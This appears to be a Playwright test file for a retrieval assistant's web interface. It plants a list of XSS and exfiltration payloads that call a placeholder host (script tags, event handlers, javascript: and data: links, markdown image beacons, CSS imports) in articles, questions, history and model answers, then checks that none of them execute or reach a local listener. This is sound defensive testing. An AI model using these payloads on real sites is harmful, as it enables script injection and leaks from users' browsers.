"""Nothing that articles, questions, models or browsers say runs, or reaches anyone outside."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Dialog, Locator, expect

from rag import Assistant
from tests.rag.collection import bare
from tests.servers.openai import says, serve
from tests.ui.conftest import serving, taken_in
from tests.ui.seat import PATIENCE, Seat, needs_chromium
from tests.ui.test_history_page import keep

pytestmark = needs_chromium

ATTACKS = (
    "<script>fetch('EVIL/script')</script>",
    "<script src='EVIL/src.js'></script>",
    "<img src='EVIL/img.png' onerror=\"fetch('EVIL/onerror')\">",
    "<b onmouseover=\"fetch('EVIL/over')\" onclick=\"fetch('EVIL/click')\">point here</b>",
    '"><input autofocus onfocus="fetch(\'EVIL/focus\')">',
    "<a href=\"javascript:fetch('EVIL/href')\">press here</a>",
    "[press here](javascript:fetch('EVIL/markdown'))",
    "<a href='data:text/html,<script>fetch(\"EVIL/data\")</script>'>press here</a>",
    "<svg onload=\"fetch('EVIL/svg')\"><script href='EVIL/svg.js'/></svg>",
    "<svg><animate href='#x' onbegin=\"fetch('EVIL/begin')\"/></svg>",
    "![seen](EVIL/image.png)",
    "![seen][pixel]\n\n[pixel]: EVIL/reference.png",
    "<div style=\"background:url('EVIL/background.png')\">ground</div>",
    "<style>@import 'EVIL/import.css'; body { background: url(EVIL/style.png) }</style>",
    "<video src='EVIL/video.mp4' autoplay poster='EVIL/poster.png'></video>",
    "<iframe src='EVIL/frame.html' srcdoc=\"<script>parent.fetch('EVIL/doc')</script>\"></iframe>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'><link rel=stylesheet href=EVIL/l.css>",
    "Told by [99] and [1](EVIL/cite) <a class=cite data-cite=0-1 href=EVIL/forged>2</a> [0]",
)
"""Each asks ``EVIL`` for something, if it is taken for more than words."""


@pytest.fixture(scope="module")
def outside() -> Iterator[tuple[str, list[str]]]:
    """A listener that stands for the outside, and what it was asked for."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, format: str, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


@pytest.fixture(scope="module")
def attacks(outside: tuple[str, list[str]]) -> list[str]:
    """The attacks, aimed at the listener."""
    return [each.replace("EVIL", outside[0]) for each in ATTACKS]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, attacks: list[str]) -> Path:
    """A data folder of articles with an attack in every field."""
    here = tmp_path_factory.mktemp("hostile")
    rows = [
        {
            "id": str(number), "title": each, "publisher": each, "author": each, "url": each,
            "published": "2021-05-04",
            "text": f"A drone struck boat {number} in the harbour of Port Kesh. {each} It sank.",
        }
        for number, each in enumerate(attacks)
    ]  # fmt: skip
    return taken_in(here, rows)


@contextmanager
def seated(browser: Browser, server: str, at: str = "") -> Iterator[Seat]:
    """Someone whose browser must have nothing to complain of, and be asked nothing."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    seat = Seat(page, server, at=at)
    yield seat
    found = "img, video, audio, object, embed, #chat iframe, #chat script, #chat svg, #chat style"
    assert page.locator(found).count() == 0
    handlers = "() => [...document.querySelectorAll('#chat *, #side *')].some((each) =>"
    handlers += " [...each.attributes].some(({ name }) => name.startsWith('on')))"
    assert not page.evaluate(handlers)
    context.close()
    assert dialogs == []
    seat.at_peace()


def point_at(seat: Seat, number: Locator) -> None:
    """Until its card is there: a page that settles may carry a number from under the pointer."""
    for _ in range(10):
        seat.page.mouse.move(0, 0)
        number.hover()
        with suppress(AssertionError):
            return expect(seat.page.locator("#peek")).to_be_visible(timeout=3_000)
    raise AssertionError("no card is shown at a number that is pointed at")


def point_at_everything(seat: Seat) -> None:
    """Every number is pointed at, and the first article is opened."""
    for number in seat.live.locator("a.cite").all():
        point_at(seat, number)
        seat.page.keyboard.press("Escape")
    seat.live.locator("a.cite").first.click()
    expect(seat.article.locator("mark").first).to_be_visible(timeout=PATIENCE)
    seat.page.keyboard.press("Escape")


def test_articles_questions_and_links(
    browser: Browser, hostile: Path, attacks: list[str], outside: tuple[str, list[str]]
) -> None:
    """In titles, publishers, texts, addresses, questions, history and links to a question."""
    with serving(hostile) as server:
        with seated(browser, server) as seat:
            seat.ask("Which boats did a drone strike in the harbour of Port Kesh?")
            point_at_everything(seat)
            seat.ask(" ".join(attacks)[:1900])
            seat.page.get_by_role("button", name="History").click()
            expect(seat.page.locator("#history li")).to_have_count(1)
            seat.page.keyboard.press("Escape")
        for some in (attacks[:6], attacks[6:12], attacks[12:]):
            with seated(browser, server, f"/?q={quote(' '.join(some))}") as seat:
                expect(seat.live).to_have_attribute("data-state", "done", timeout=PATIENCE)
                asked = seat.live.locator(".question").inner_text()
                assert all(each.split("\n")[0] in asked for each in some)
        with seated(browser, server) as seat:
            keep(seat, *({"question": e, "text": e, "state": "stopped"} for e in attacks))
            expect(seat.page.locator(".turn")).to_have_count(len(attacks), timeout=PATIENCE)
            seat.page.get_by_role("button", name="History").click()
            with seat.page.expect_download() as waiting:
                seat.page.get_by_role("button", name="Save as HTML").click()
            saved = Path(waiting.value.path()).read_text("utf-8")
            copy = seat.page.context.new_page()
            copy.set_content(saved)
            assert copy.locator("h2").count() == len(attacks)
            assert copy.locator("img, script, iframe, svg, video, a, input").count() == 0
    assert outside[1] == []


def test_every_article_on_its_own(
    browser: Browser, hostile: Path, outside: tuple[str, list[str]]
) -> None:
    """Opened alone, each is text, and links nowhere."""
    with Assistant(bare(hostile)) as assistant:
        ids = [article.id for article in assistant.articles()]
    assert len(ids) == len(ATTACKS)
    with serving(hostile) as server, seated(browser, server) as seat:
        for id in ids:
            seat.load(f"/articles/{id}?start=0&end=40")
            expect(seat.page.locator("mark.cited")).to_contain_text("A drone struck boat")
            found = "main :is(img, script, svg, video, iframe, input, a)"
            assert seat.page.locator(found).count() == 0
    assert outside[1] == []


def test_model_answers(
    browser: Browser, hostile: Path, attacks: list[str], outside: tuple[str, list[str]]
) -> None:
    """What a model writes is words, whatever it writes."""

    def draft(body: dict[str, Any]) -> str:
        return "\n\n".join(attacks)

    with serve() as model, serving(hostile, OPENAI_BASE_URL=model.url) as server:
        model.play(says(draft))
        with seated(browser, server) as seat:
            seat.ask("Which boats did a drone strike in the harbour of Port Kesh?")
            point_at_everything(seat)
    assert outside[1] == []
